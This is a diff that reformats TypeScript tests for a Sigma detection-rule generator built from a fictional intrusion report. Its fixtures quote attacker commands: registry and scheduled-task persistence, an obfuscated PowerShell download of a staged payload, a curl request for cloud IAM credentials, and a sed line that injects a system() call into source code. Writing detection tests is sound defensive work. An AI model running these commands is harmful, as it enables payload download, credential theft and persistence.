@@ -5,25 +5,59 @@ import { detectionKey, generateBuiltinRules, type BuiltinSigmaInput } from './bu
 const article = { title: 'Tracking the Sandpiper intrusion', url: 'https://research.example.org/sandpiper', date: '2026-11-26' };
 const item = { evidence: { start: 0, end: 10, text: 'x' }, confidence: 0.9 };
 
-type Rule = { title: string; description: string; logsource: Record<string, string>; detection: Record<string, Record<string, unknown> | string> };
-const rulesOf = (input: Omit<BuiltinSigmaInput, 'article'>) => generateBuiltinRules({ article, ...input }).map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));
-const selectionsOf = (rule: Rule) => Object.entries(rule.detection).filter(([name]) => name !== 'condition').map(([, selection]) => selection as Record<string, unknown>);
-const imagesOf = (rule: Rule) => selectionsOf(rule).flatMap((selection) => [selection['Image|endswith'], selection['ParentImage|endswith']].flat().filter((image): image is string => typeof image === 'string'));
+type Rule = {
+  title: string;
+  description: string;
+  logsource: Record<string, string>;
+  detection: Record<string, Record<string, unknown> | string>;
+};
+const rulesOf = (input: Omit<BuiltinSigmaInput, 'article'>) =>
+  generateBuiltinRules({ article, ...input }).map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));
+const selectionsOf = (rule: Rule) =>
+  Object.entries(rule.detection)
+    .filter(([name]) => name !== 'condition')
+    .map(([, selection]) => selection as Record<string, unknown>);
+const imagesOf = (rule: Rule) =>
+  selectionsOf(rule).flatMap((selection) =>
+    [selection['Image|endswith'], selection['ParentImage|endswith']].flat().filter((image): image is string => typeof image === 'string'),
+  );
 
 describe('one article, one rule per detection', () => {
   it('writes one registry rule for a value quoted from the timeline and from the command that set it', () => {
     const rules = rulesOf({
       platform: 'windows',
-      cmdlines: [{ ...item, value: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v PixelSync /t REG_SZ /d "%APPDATA%\\PixelSync\\pixelsync.exe" /f', executable: 'reg' }],
+      cmdlines: [
+        {
+          ...item,
+          value:
+            'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v PixelSync /t REG_SZ /d "%APPDATA%\\PixelSync\\pixelsync.exe" /f',
+          executable: 'reg',
+        },
+      ],
       registryKeys: [
-        { ...item, value: 'HKU\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', hive: 'HKU', path: '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'PixelSync' },
-        { ...item, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', hive: 'HKCU', path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'PixelSync' },
+        {
+          ...item,
+          value: 'HKU\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          hive: 'HKU',
+          path: '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          value_name: 'PixelSync',
+        },
+        {
+          ...item,
+          value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          hive: 'HKCU',
+          path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+          value_name: 'PixelSync',
+        },
       ],
     }).filter(({ draft }) => draft.telemetryClass === 'registry_set');
     expect(rules).toHaveLength(1);
     const { rule } = rules[0] as { rule: Rule };
     // The data the command wrote holds for both quotes, and the description keeps both.
-    expect(rule.detection['selection']).toMatchObject({ 'TargetObject|endswith': '\\PixelSync', 'Details|contains': '\\PixelSync\\pixelsync.exe' });
+    expect(rule.detection['selection']).toMatchObject({
+      'TargetObject|endswith': '\\PixelSync',
+      'Details|contains': '\\PixelSync\\pixelsync.exe',
+    });
     expect(rule.description).toContain('HKU\\<SID>\\Software');
     expect(rule.description).toContain('HKCU\\Software');
   });
@@ -31,8 +65,14 @@ describe('one article, one rule per detection', () => {
   it('merges any two rules that match the same events, keeping both sets of values', () => {
     const rules = rulesOf({
       platform: 'windows',
-      scheduledTasks: [{ ...item, value: '\\Sandpiper Refresh' }, { ...item, value: 'sandpiper refresh' }],
-      services: [{ ...item, value: 'SandpiperSvc' }, { ...item, value: 'sandpipersvc' }],
+      scheduledTasks: [
+        { ...item, value: '\\Sandpiper Refresh' },
+        { ...item, value: 'sandpiper refresh' },
+      ],
+      services: [
+        { ...item, value: 'SandpiperSvc' },
+        { ...item, value: 'sandpipersvc' },
+      ],
     });
     expect(rules.map(({ draft }) => draft.telemetryClass)).toEqual(['service_creation', 'scheduled_task_creation']);
     expect(rules[1]?.draft.detectionValues).toEqual(['\\Sandpiper Refresh', '\\sandpiper refresh']);
@@ -46,22 +86,35 @@ describe('one article, one rule per detection', () => {
       if (!parsed.ok) throw new Error('the test rule must parse');
       return parsed.rule.doc as SigmaRule;
     };
-    expect(detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n    CommandLine|contains|all: [x, y]\n  condition: selection\n"))).toBe(
-      detectionKey(yaml("  selection_1:\n    CommandLine|contains|all: [Y, X]\n    Image|endswith: '\\A.EXE'\n  condition: 1 of selection_*\n")),
+    expect(
+      detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n    CommandLine|contains|all: [x, y]\n  condition: selection\n")),
+    ).toBe(
+      detectionKey(
+        yaml("  selection_1:\n    CommandLine|contains|all: [Y, X]\n    Image|endswith: '\\A.EXE'\n  condition: 1 of selection_*\n"),
+      ),
     );
-    expect(detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n  condition: selection\n"))).not.toBe(detectionKey(yaml("  selection:\n    Image|endswith: '\\b.exe'\n  condition: selection\n")));
+    expect(detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n  condition: selection\n"))).not.toBe(
+      detectionKey(yaml("  selection:\n    Image|endswith: '\\b.exe'\n  condition: selection\n")),
+    );
   });
 
   it('drops a selection that only narrows another one of the same rule', () => {
     const rules = rulesOf({
       platform: 'windows',
       cmdlines: [
-        { ...item, value: 'schtasks /create /tn "\\Microsoft\\Windows\\Sandpiper\\Refresh" /tr "C:\\ProgramData\\Sandpiper\\sp.exe --quiet" /sc onlogon', executable: 'schtasks' },
+        {
+          ...item,
+          value:
+            'schtasks /create /tn "\\Microsoft\\Windows\\Sandpiper\\Refresh" /tr "C:\\ProgramData\\Sandpiper\\sp.exe --quiet" /sc onlogon',
+          executable: 'schtasks',
+        },
         { ...item, value: 'schtasks /run /tn "\\Microsoft\\Windows\\Sandpiper\\Refresh"', executable: 'schtasks' },
       ],
     });
     const schtasks = rules.find(({ rule }) => imagesOf(rule).includes('\\schtasks.exe'));
-    expect(selectionsOf((schtasks as { rule: Rule }).rule)).toEqual([{ 'Image|endswith': '\\schtasks.exe', 'CommandLine|contains': '\\Microsoft\\Windows\\Sandpiper\\Refresh' }]);
+    expect(selectionsOf((schtasks as { rule: Rule }).rule)).toEqual([
+      { 'Image|endswith': '\\schtasks.exe', 'CommandLine|contains': '\\Microsoft\\Windows\\Sandpiper\\Refresh' },
+    ]);
   });
 });
 
@@ -70,8 +123,18 @@ describe('no rule that cannot fire or says nothing', () => {
     const rules = rulesOf({
       platform: 'windows',
       cmdlines: [
-        { ...item, value: 'Register-ScheduledTask -Xml (Get-Content "C:\\Windows\\Temp\\sp.xml" | Out-String) -TaskName "\\Microsoft\\Windows\\Sandpiper\\Sync" -Force', executable: 'Register-ScheduledTask' },
-        { ...item, value: 'Get-ChildItem C:\\ProgramData\\Sandpiper | ForEach-Object { $_.FullName | Out-File C:\\ProgramData\\Sandpiper\\list.txt }', executable: 'Get-ChildItem' },
+        {
+          ...item,
+          value:
+            'Register-ScheduledTask -Xml (Get-Content "C:\\Windows\\Temp\\sp.xml" | Out-String) -TaskName "\\Microsoft\\Windows\\Sandpiper\\Sync" -Force',
+          executable: 'Register-ScheduledTask',
+        },
+        {
+          ...item,
+          value:
+            'Get-ChildItem C:\\ProgramData\\Sandpiper | ForEach-Object { $_.FullName | Out-File C:\\ProgramData\\Sandpiper\\list.txt }',
+          executable: 'Get-ChildItem',
+        },
       ],
     });
     const images = rules.flatMap(({ rule }) => imagesOf(rule));
@@ -81,7 +144,17 @@ describe('no rule that cannot fire or says nothing', () => {
   });
 
   it('reads a caret-obfuscated program as the program cmd.exe runs', () => {
-    const rules = rulesOf({ platform: 'windows', cmdlines: [{ ...item, value: 'cmd.exe /v:on /c "set h=203.0.113^.9&& p^o^w^e^r^s^h^e^l^l -nop -c iwr http://!h!/sp/stage.zip -OutFile $env:APPDATA\\Sandpiper\\stage.zip"', executable: 'cmd.exe' }] });
+    const rules = rulesOf({
+      platform: 'windows',
+      cmdlines: [
+        {
+          ...item,
+          value:
+            'cmd.exe /v:on /c "set h=203.0.113^.9&& p^o^w^e^r^s^h^e^l^l -nop -c iwr http://!h!/sp/stage.zip -OutFile $env:APPDATA\\Sandpiper\\stage.zip"',
+          executable: 'cmd.exe',
+        },
+      ],
+    });
     const images = rules.flatMap(({ rule }) => imagesOf(rule));
     expect(images).toEqual(['\\powershell.exe']);
     // !h! is replaced by cmd before PowerShell starts: no value may carry it.
@@ -94,7 +167,11 @@ describe('no rule that cannot fire or says nothing', () => {
       cmdlines: [
         { ...item, value: 'systemctl --user enable --now sandpiper-agent.service', executable: 'systemctl' },
         { ...item, value: 'launchctl load -w ~/Library/LaunchAgents/org.sandpiper.agent.plist', executable: 'launchctl' },
-        { ...item, value: 'schtasks /create /tn "Sandpiper Agent" /tr "%LOCALAPPDATA%\\sandpiper\\sp.exe --quiet" /sc onlogon', executable: 'schtasks' },
+        {
+          ...item,
+          value: 'schtasks /create /tn "Sandpiper Agent" /tr "%LOCALAPPDATA%\\sandpiper\\sp.exe --quiet" /sc onlogon',
+          executable: 'schtasks',
+        },
       ],
       services: [{ ...item, value: 'sandpiper-agent.service' }],
     });
@@ -106,9 +183,17 @@ describe('no rule that cannot fire or says nothing', () => {
   it('makes no installation rule for a built-in service named without its binary, nor a rule on a key every machine writes', () => {
     const rules = rulesOf({
       platform: 'windows',
-      services: [{ ...item, value: 'WinDefend' }, { ...item, value: 'SandpiperSvc' }],
+      services: [
+        { ...item, value: 'WinDefend' },
+        { ...item, value: 'SandpiperSvc' },
+      ],
       registryKeys: [
-        { ...item, value: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree', hive: 'HKLM', path: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree' },
+        {
+          ...item,
+          value: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree',
+          hive: 'HKLM',
+          path: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree',
+        },
         { ...item, value: 'HKCU\\Environment', hive: 'HKCU', path: 'Environment' },
       ],
     });
@@ -119,7 +204,11 @@ describe('no rule that cannot fire or says nothing', () => {
     const rules = rulesOf({
       platform: 'linux',
       cmdlines: [
-        { ...item, value: 'curl -s -H "X-Sandpiper-Token: $TOKEN" http://203.0.113.9/latest/meta-data/iam/security-credentials/node-role', executable: 'curl' },
+        {
+          ...item,
+          value: 'curl -s -H "X-Sandpiper-Token: $TOKEN" http://203.0.113.9/latest/meta-data/iam/security-credentials/node-role',
+          executable: 'curl',
+        },
         { ...item, value: 'cp /tmp/.sp/agent /opt/Sandpiper\\ Agent/.cache/agent', executable: 'cp' },
         { ...item, value: "sed -i 's/^main()/main(){system(`$ENV{SP_CMD}`);}/' /opt/sandpiper/lib/hook.c", executable: 'sed' },
       ],
